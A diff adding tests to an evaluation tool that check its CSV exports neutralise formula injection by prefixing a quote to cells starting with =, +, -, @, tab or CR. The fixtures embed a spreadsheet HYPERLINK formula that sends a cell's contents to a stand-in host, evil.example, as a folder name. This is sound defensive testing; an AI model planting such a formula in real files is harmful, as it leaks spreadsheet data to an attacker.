@@ -505,3 +505,81 @@ def test_genuine_exports_of_every_golden_run_still_import(tmp_path):
     result = evals("import", *paths, "--store", tmp_path / "new.duckdb")
     assert result.exit_code == 0, result.output
     assert result.output.count("imported run") == len(documents) == 5
+
+
+# -- 2. CSV formula injection -------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a folder name: no slash
+
+
+def csv_rows(text: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.fixture
+def formula_store(tmp_path):
+    """A store with one run on a corpus whose folder name is a formula, category '@SUM(1)', seed -7."""
+    data = conversation()
+    data["turns"][1]["test_at"]["category"] = "@SUM(1)"
+    corpus = corpus_of(tmp_path / FORMULA, data)
+    store = tmp_path / "results.duckdb"
+    result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store, "--seed", "-7")
+    assert result.exit_code == 0, result.output
+    return store
+
+
+def test_site_leaderboard_csv_cells_are_neutralised(formula_store, tmp_path):
+    """site/leaderboard.csv writes a formula-like corpus name with a leading quote; numbers stay numbers."""
+    result = evals("build-site", "--store", formula_store, "--out", tmp_path / "site")
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
+    assert row["corpus_name"] == "'" + FORMULA
+    assert row["recall"] == "0.0" and row["k"] == "5"
+
+
+@pytest.mark.parametrize("command", [["runs"], ["leaderboard"]])
+def test_cli_csv_cells_are_neutralised(formula_store, command):
+    """`evals runs|leaderboard --format csv`: text cells that start like a formula are neutralised, numbers are not."""
+    result = evals(*command, "--format", "csv", "--store", formula_store)
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows(result.output)
+    assert row["corpus_name"] == "'" + FORMULA
+    assert row["seed"] == "-7" and row["recall"] == "0.0"
+
+
+def test_by_category_csv_cells_are_neutralised(formula_store):
+    """`evals leaderboard --by-category --format csv`: a category '@SUM(1)' is written as text."""
+    result = evals("leaderboard", "--by-category", "--format", "csv", "--store", formula_store)
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows(result.output)
+    assert row["category"] == "'@SUM(1)" and row["corpus"] == "'" + FORMULA
+
+
+def test_judge_model_csv_cell_is_neutralised(tmp_path):
+    """A --judge-model that reads as a formula is written as text in `runs --format csv` and leaderboard.csv."""
+    from llm_server import LLMServer
+
+    store = tmp_path / "results.duckdb"
+    with LLMServer() as server:
+        result = evals(
+            "run", "--runner", "recency", "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
+            "--judge", "--judge-model", "+SUM(1)", env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": "sk-unused-0000"},
+        )
+    assert result.exit_code == 0, result.output
+    (row,) = csv_rows(evals("runs", "--format", "csv", "--store", store).output)
+    assert row["judge_model"] == "'+SUM(1)"
+    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
+    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
+    assert row["judge_model"] == "'+SUM(1)"
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_csv_cell_rule(text):
+    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote; numbers never."""
+    from evals.formatting import csv_cell
+
+    assert csv_cell(text) == "'" + text
+    assert csv_cell(-1) == -1 and csv_cell(-0.5) == -0.5 and csv_cell("plain") == "plain" and csv_cell(None) is None
